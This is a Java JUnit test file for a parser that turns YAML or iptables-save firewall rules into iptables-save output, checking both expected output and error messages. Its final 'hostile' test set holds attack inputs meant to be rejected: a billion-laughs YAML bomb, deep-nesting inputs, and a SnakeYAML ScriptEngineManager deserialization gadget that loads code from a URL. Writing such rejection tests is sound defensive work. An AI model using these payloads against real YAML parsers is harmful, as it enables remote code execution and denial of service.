// SPDX-License-Identifier: Apache-2.0

package io.skbwalk.language;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.skbwalk.lib.SourceException;
import io.skbwalk.netfilter.tables.RuleSet;
import io.skbwalk.netfilter.tables.TableKind;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.function.Executable;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Rules in YAML, and what iptables-save would print for them. */
class RulesFileTest {
  /** A rule of filter/INPUT, and what follows {@code -A INPUT} for it. */
  private static final String RULES =
      """
      {jump: ACCEPT}                                             => -j ACCEPT
      {jump: {ACCEPT: }}                                         => -j ACCEPT
      {}                                                         =>
      {protocol: tcp}                                            => -p tcp
      {protocol: 6}                                              => -p tcp
      {protocol: {not: tcp}}                                     => ! -p tcp
      {source: 10.0.0.0/8, destination: 192.0.2.1}               => -s 10.0.0.0/8 -d 192.0.2.1/32
      {src: {not: 10.1.2.3/8}, dst: 192.0.2.1}                   => ! -s 10.0.0.0/8 -d 192.0.2.1/32
      {source: [192.0.2.1, 192.0.2.2]}                           => -s 192.0.2.1/32 | -s 192.0.2.2/32
      {in-interface: eth+}                                       => -i eth+
      {in-interface: {not: lo}}                                  => ! -i lo
      {fragment: true}                                           => -f
      {fragments: {not: true}}                                   => ! -f
      {protocol: tcp, dport: 22}                                 => -p tcp -m tcp --dport 22
      {dport: 22, protocol: tcp}                                 => -p tcp -m tcp --dport 22
      {protocol: tcp, destination-port: ssh}                     => -p tcp -m tcp --dport 22
      {protocol: udp, dport: 53, sport: "1024:"}                 => -p udp -m udp --sport 1024:65535 --dport 53
      {protocol: udp, dport: {not: 53}}                          => -p udp -m udp ! --dport 53
      {protocol: tcp, dport: 22, comment: a, sport: 1}           => -p tcp -m tcp --sport 1 --dport 22 -m comment --comment a
      {comment: "a, \\"b\\"", protocol: tcp, dport: 22}          => -p tcp -m comment --comment "a, \\"b\\"" -m tcp --dport 22
      {protocol: tcp, dports: [80, 443, "8000:8080"]}            => -p tcp -m multiport --dports 80,443,8000:8080
      {protocol: tcp, dports: "80,443"}                          => -p tcp -m multiport --dports 80,443
      {protocol: tcp, dports: {not: [80, 443]}}                  => -p tcp -m multiport ! --dports 80,443
      {protocol: udp, ports: 53}                                 => -p udp -m multiport --ports 53
      {protocol: tcp, tcp-flags: {mask: [SYN, ACK], set: SYN}}   => -p tcp -m tcp --tcp-flags SYN,ACK SYN
      {protocol: tcp, tcp-flags: {not: {mask: ALL, set: NONE}}}  => -p tcp -m tcp ! --tcp-flags FIN,SYN,RST,PSH,ACK,URG NONE
      {protocol: tcp, syn: true}                                 => -p tcp -m tcp --tcp-flags FIN,SYN,RST,ACK SYN
      {protocol: tcp, syn: {not: true}}                          => -p tcp -m tcp ! --tcp-flags FIN,SYN,RST,ACK SYN
      {protocol: icmp, icmp-type: echo-request}                  => -p icmp -m icmp --icmp-type 8
      {protocol: icmp, icmp-type: {not: 3/4}}                    => -p icmp -m icmp ! --icmp-type 3/4
      {match: {mark: {mark: 0x10/0xff}}}                         => -m mark --mark 0x10/0xff
      {match: {mark: {mark: {not: 1}}}}                          => -m mark ! --mark 0x1
      {match: [{mark: {mark: 1/1}}, {mark: {mark: 2/2}}]}        => -m mark --mark 0x1/0x1 -m mark --mark 0x2/0x2
      {match: {mark: [{mark: 1/1}, {mark: 2/2}]}}                => -m mark --mark 0x1/0x1 -m mark --mark 0x2/0x2
      {match: {mark: {mark: 1}}, protocol: tcp, dport: 1}        => -p tcp -m mark --mark 0x1 -m tcp --dport 1
      {protocol: tcp, match: [tcp]}                              => -p tcp -m tcp
      {protocol: tcp, match: tcp, jump: DROP}                    => -p tcp -m tcp -j DROP
      {protocol: tcp, match: {tcp: }, dport: 1}                  => -p tcp -m tcp -m tcp --dport 1
      {match: {policy: {next: {spi: 16}, dir: in, strict: true, reqid: 1}}} => -m policy --dir in --pol ipsec --strict --reqid 1 --next --spi 0x10
      {match: {policy: {dir: in, strict: true, reqid: 1, next: [{reqid: {not: 2}}, {mode: tunnel, tunnel-src: 192.0.2.1}]}}} => -m policy --dir in --pol ipsec --strict --reqid 1 --next ! --reqid 2 --next --mode tunnel --tunnel-src 192.0.2.1
      {jump: users}                                              => -j users
      {goto: users, source: 192.0.2.1}                           => -s 192.0.2.1/32 -g users
      "-p tcp --dport 22 -j users"                               => -p tcp -m tcp --dport 22 -j users
      -p tcp --dport 22 -j users                                 => -p tcp -m tcp --dport 22 -j users
      '-m comment --comment "a b"'                               => -m comment --comment "a b"
      """;

  static Stream<String> rules() {
    return RULES.lines();
  }

  @ParameterizedTest
  @MethodSource("rules")
  void isPrintedAsIptablesSaveDoes(String line) {
    String[] sides = line.split("=>", 2);
    String text =
        "tables:\n  filter:\n    users:\n    INPUT:\n      rules:\n        - " + sides[0] + "\n";
    List<String> printed =
        IptablesSavePrinter.print(RulesFile.merge(List.of(RulesFile.parse("f", text))), false)
            .lines()
            .filter(one -> one.startsWith("-A INPUT"))
            .map(one -> one.substring(8).strip())
            .toList();
    assertEquals(Stream.of(sides[1].split("\\|")).map(String::strip).toList(), printed);
  }

  /** A rule that begins in column 6 of line 5, and what is said of it. */
  private static final String MISTAKES =
      """
      {prtocol: tcp}                        => 5:7: unknown key "prtocol" in a rule; did you mean protocol? known: source, *
      {zzzzzzzzzz: 1}                       => 5:7: unknown key "zzzzzzzzzz" in a rule; known: source, *
      {dport: 22}                           => 5:7: dport needs protocol: dccp, sctp, tcp or udp
      {protocol: {not: tcp}, dport: 22}     => 5:29: dport needs protocol: dccp, sctp, tcp or udp
      {protocol: icmp, syn: true}           => 5:23: syn needs protocol: tcp
      {mark: 1}                             => 5:7: mark belongs in match: {connmark: {mark: ...}} or match: {mark: {mark: ...}}
      {multiport: 1}                        => 5:7: a match stands under match: match: {multiport: {...}}
      {protocol: tcq}                       => 5:17: -p takes the name of a protocol or a number from 0 to 255, not "tcq"; did you mean tcp?
      {source: 10.0.0.0/33}                 => 5:15: rule: the mask "33" is neither 0 to 32 nor an address
      {source: }                            => 5:7: source needs a value
      {source: []}                          => 5:15: the list is empty; source needs a value
      {source: {ip: 1}}                     => 5:15: expected a value or a list, or {not: ...} to invert it, found another mapping
      {source: {not: 1.1.1.1, x: 1}}        => 5:15: not stands alone: source: {not: ...}
      {source: 1.1.1.1, src: 1.1.1.1}       => 5:24: rule: --src is given twice
      {protocol: tcp, dport: 22, dport: 1}  => 5:33: the key dport is there already, in line 5
      {protocol: tcp, dport: 70000}         => 5:29: tcp: --dport takes a port (0 to 65535) or the name of a service, not "70000"
      {protocol: tcp, dports: [1, "2,3"]}   => 5:34: an entry of a list is one value, not "2,3"
      {protocol: tcp, dports: [1, [2]]}     => 5:34: expected a single value, found a list
      {protocol: tcp, dports: [x]}          => 5:30: multiport: --dports takes a port (0 to 65535) or the name of a service, not "x"
      {protocol: tcp, tcp-flags: SYN}       => 5:33: expected {mask: ..., set: ...}
      {protocol: tcp, tcp-flags: {mask: A}} => 5:33: tcp-flags needs the key "set"
      {protocol: tcp, syn: false}           => 5:27: to invert it, write syn: {not: true}; else leave it out
      {protocol: tcp, syn: 5}               => 5:27: expected true or false, found "5"
      {match: {markk: {mark: 1}}}           => 5:15: unknown key "markk" in match; did you mean mark? known: addrtype, *
      {match: {mark: {marc: 1}}}            => 5:22: unknown key "marc" in match mark; did you mean mark? known: mark
      {match: {mark: }}                     => 5:15: mark: --mark is missing
      {match: {mark: 1}}                    => 5:21: the options of match mark are a mapping (key: value)
      {match: {multiport: {dports: 1}}}     => 5:6: multiport: needs -p tcp, udp, udplite, sctp or dccp
      {jump: ACCEPT, goto: users}           => 5:21: jump and goto exclude each other
      {jump: }                              => 5:7: jump needs a target or the name of a chain
      {jump: nowhere}                       => 5:6: there is neither a target nor, in table filter, a chain nowhere
      {jump: INPUT}                         => 5:6: a rule may not jump to the built-in chain INPUT
      {jump: {ACCEPT: , DROP: }}            => 5:13: a rule has one target, not 2
      {jump: {ACCEPT: {x: 1}}}              => 5:23: unknown key "x" in target ACCEPT; it has none
      {goto: ACCEPT}                        => 5:13: -g takes a chain, and ACCEPT is a target
      {out-interface: eth0}                 => 5:6: -o cannot match in INPUT: no packet has an outgoing interface there
      {counters: 5}                         => 5:17: expected a list (- item, or [item, item])
      {counters: [1]}                       => 5:17: counters are two numbers: [packets, bytes]
      {counters: [1, x]}                    => 5:21: a counter is a number of 64 bits, not "x"
      [a]                                   => 5:6: a rule is a mapping such as {protocol: tcp, dport: 22, jump: ACCEPT}, or a string in iptables' syntax
      -p tcp --dprt 5                       => 5:13: unknown option --dprt; did you mean --dport?
      "-p tcp --dport x"                    => 5:22: tcp: --dport takes a port (0 to 65535) or the name of a service, not "x"
      "-m comment --comment \\"x"           => 5:6: the closing " is missing
      -A INPUT -p tcp                       => 5:6: the chain is said already: leave -A CHAIN out
      iptables -A INPUT -p tcp              => 5:6: the chain is said already: leave iptables -A CHAIN out
      """;

  static Stream<String> mistakes() {
    return MISTAKES.lines();
  }

  @ParameterizedTest
  @MethodSource("mistakes")
  void isRefusedWhereItIsWrong(String line) {
    String[] sides = line.split("=>", 2);
    String text =
        "tables:\n filter:\n  INPUT:\n   rules:\n   - " + sides[0] + "\n  users: {rules: []}\n";
    assertRefused(sides[1].strip(), text);
  }

  /** Whole files, a blank and / for a line's end, and what is said of them. */
  private static final String FILES =
      """
      tabels: {}                                        => 1:1: unknown key "tabels" in a rule file; did you mean tables? known: tables
      []                                                => 1:1: expected a mapping (key: value)
      tables: 5                                         => 1:9: expected a mapping (key: value)
      {}                                                => 1:1: a rule file needs the key "tables"
      tables: {fitler: {}}                              => 1:10: there is no table fitler; tables are raw, mangle, nat, filter, security
      tables: {nat: {FORWARD: {}}}                      => 1:16: table nat has no chain FORWARD; its built-in chains are PREROUTING, INPUT, OUTPUT, POSTROUTING
      tables: {nat: {POSTROUTING: {rules: [{jump: DROP}]}}} => 1:38: the nat table is not for filtering, so DROP is not allowed in it
      tables: {filter: {INPUT: {policy: REJECT}}}       => 1:35: a policy is ACCEPT or DROP, not "REJECT"
      tables: {filter: {mine: {policy: DROP}}}          => 1:34: only a built-in chain has a policy; end mine with a rule such as {jump: DROP}
      tables: {filter: {INPUT: {polcy: DROP}}}          => 1:27: unknown key "polcy" in a chain; did you mean policy? known: policy, counters, rules
      tables: {filter: {INPUT: {counters: [1, 2]}}}     => 1:37: a chain's counters are its policy's; state the policy, too
      tables: {filter: {INPUT: [{jump: DROP}]}}         => 1:26: expected a mapping (key: value)
      tables: {filter: {ACCEPT: {}}}                    => 1:19: a chain may not be called like the target ACCEPT
      tables: {filter: {"a b": {}}}                     => 1:19: a chain's name has 1 to 28 characters, does not begin with - or ! and has no blank
      tables: {filter: {a: {rules: [{jump: a}]}, INPUT: {rules: [{jump: a}]}}} => 1:31: chain a would call itself
      tables: {filter: {INPUT: {}, INPUT: {}}}          => 1:30: the key INPUT is there already, in line 1
      tables: {filter: {INPUT: {}                       => 2:1: not YAML: expected ',' or '}', but got <stream end>
      tables: / \tfilter: {}                            => 2:1: not YAML: found character '\\t(TAB)' that cannot start any token. (Do not use \\t(TAB) for indentation)
      tables: *a                                        => 1:9: not YAML: found undefined alias a
      tables: {} / --- / tables: {}                     => 2:1: not YAML: but found another document
      -A INPUT -j DROP                                  => 1:1: expected *TABLE (raw, mangle, nat, filter or security)
      :INPUT DROP [0:0]                                 => 1:1: expected *TABLE (raw, mangle, nat, filter or security)
      """;

  static Stream<String> files() {
    return FILES.lines();
  }

  @ParameterizedTest
  @MethodSource("files")
  void isRefusedAsAFile(String line) {
    String[] sides = line.split(" => ", 2);
    assertRefused(sides[1].strip(), sides[0].strip().replace(" / ", "\n") + "\n");
  }

  private static void assertRefused(String expected, String text) {
    RuntimeException refused =
        assertThrows(
            RuntimeException.class, () -> RulesFile.merge(List.of(RulesFile.parse("f", text))));
    String wanted = "f:" + expected;
    String said = refused.getMessage();
    if (wanted.endsWith("*")) {
      said = said.substring(0, Math.min(said.length(), wanted.length() - 1)) + "*";
    }
    assertEquals(wanted, said);
  }

  @Test
  void keepsPoliciesCountersAndPlaces() {
    RuleSet rules =
        RulesFile.parse(
            "web.yaml",
            """
            tables:
              filter:
                INPUT:
                  policy: DROP
                  counters: [3, 180]
                  rules:
                    - protocol: tcp
                      dport: 80
                      jump: ACCEPT
                      counters: [18446744073709551615, 60]
                    - jump: web
                web:
              raw:
            """);
    assertEquals(
        """
        *raw
        :PREROUTING ACCEPT [0:0]
        :OUTPUT ACCEPT [0:0]
        COMMIT
        *filter
        :INPUT DROP [3:180]
        :FORWARD ACCEPT [0:0]
        :OUTPUT ACCEPT [0:0]
        :web - [0:0]
        [18446744073709551615:60] -A INPUT -p tcp -m tcp --dport 80 -j ACCEPT
        [0:0] -A INPUT -j web
        COMMIT
        """,
        IptablesSavePrinter.print(rules, true));
    RuleSet.Table filter = rules.table(TableKind.FILTER);
    assertEquals("web.yaml:7:11", filter.chain("INPUT").rules().get(0).at().toString());
    assertEquals("web.yaml:11", filter.chain("INPUT").rules().get(1).at().fileAndLine());
    assertEquals("web.yaml:12:5", filter.chain("web").at().toString());
  }

  @Test
  void tellsTheLanguageByContent() {
    String save = "# Generated\n\n*filter\n:INPUT DROP [0:0]\nCOMMIT\n";
    String yaml = "# *filter\ntables: {filter: {INPUT: {policy: DROP}}}\n";
    String printed = IptablesSavePrinter.print(RulesFile.parse("f", yaml), false);
    assertTrue(printed.contains(":INPUT DROP"), printed);
    assertEquals(printed, IptablesSavePrinter.print(RulesFile.parse("f", save), false));
    assertEquals(printed, IptablesSavePrinter.print(RulesFile.parse("f", "\uFEFF" + save), false));
    assertTrue(RulesFile.parse("f", "").tables().isEmpty());
    assertTrue(RulesFile.parse("f", "# nothing\n").tables().isEmpty());
  }

  @Test
  void addsLaterFilesToEarlierOnes() {
    RuleSet first =
        RulesFile.parse(
            "a",
            "tables: {filter: {INPUT: {policy: DROP, rules: [{source: 192.0.2.1, jump: late}]}}}");
    assertThrows(SourceException.class, () -> RulesFile.merge(List.of(first)));
    RuleSet second =
        RulesFile.parse("b", "*filter\n:late - [0:0]\n-A INPUT -s 192.0.2.2 -j late\nCOMMIT\n");
    RuleSet third = RulesFile.parse("c", "tables: {filter: {INPUT: {policy: ACCEPT}}}");
    assertEquals(
        """
        *filter
        :INPUT ACCEPT [0:0]
        :FORWARD ACCEPT [0:0]
        :OUTPUT ACCEPT [0:0]
        :late - [0:0]
        -A INPUT -s 192.0.2.1/32 -j late
        -A INPUT -s 192.0.2.2/32 -j late
        COMMIT
        """,
        IptablesSavePrinter.print(RulesFile.merge(List.of(first, second, third)), false));
    assertEquals(RuleSet.EMPTY, RulesFile.merge(List.of()));
  }

  /** Files that are not meant well: one line of error each, soon. */
  static Stream<String> hostile() {
    StringBuilder laughs = new StringBuilder("a0: &a0 [lol, lol]\n");
    for (int i = 1; i < 30; i++) {
      String before = "*a" + (i - 1);
      laughs.append("a" + i + ": &a" + i + " [" + (before + ", ").repeat(8) + before + "]\n");
    }
    return Stream.of(
        laughs.toString(),
        "tables: " + "[".repeat(100_000),
        "tables: " + "{a: ".repeat(100_000),
        "- ".repeat(100_000) + "x",
        "tables:\n" + "\t\tfilter: {}\n".repeat(1000),
        "tables: \0\1\2",
        "\u007fELF\2\1\1",
        "tables: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://192.0.2.1\"]]",
        "tables: &a {filter: *a}",
        "interfaces: &a {eth0: *a}",
        "host: {interfaces: {e: {macaddress: '02:00:00:00:00:01'}}}\n"
            + "experiments: [{packets: [{sent: true, icmp: &a {from: 1.1.1.1, to: 1.1.1.1, type: 3,"
            + " quote: {icmp: *a}}}]}]",
        "tables: &a {filter: {INPUT: *a}}",
        "tables: {filter: {INPUT: {rules: &r [*r]}}}",
        "tables: {filter: {INPUT: {rules: [{match: &m [*m]}]}}}",
        "tables: {filter: {INPUT: {rules: [&m {match: *m}]}}}",
        "? [tables, x]\n: 1\n",
        "tables: {<<: {filter: {}}}",
        "x".repeat(5_000_000),
        "%YAML 9.9\n---\ntables: {}",
        "'",
        "tables: {filter: {INPUT: {rules: [" + "{jump: x}, ".repeat(20_000) + "]}}}");
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void refusesHostileFilesInOneLine(String text) {
    assertOneLine(() -> RulesFile.merge(List.of(RulesFile.parse("f", text))));
    assertOneLine(() -> HostFile.parse("f", text));
    assertOneLine(() -> ScenarioFile.parse("f", text, null, name -> text));
  }

  private static void assertOneLine(Executable read) {
    String said = assertThrows(SourceException.class, read).getMessage();
    assertTrue(said.matches("f(:[0-9]+:[0-9]+)?: .{5,900}"), said);
    assertFalse(said.chars().anyMatch(c -> c < ' '), said);
  }
}
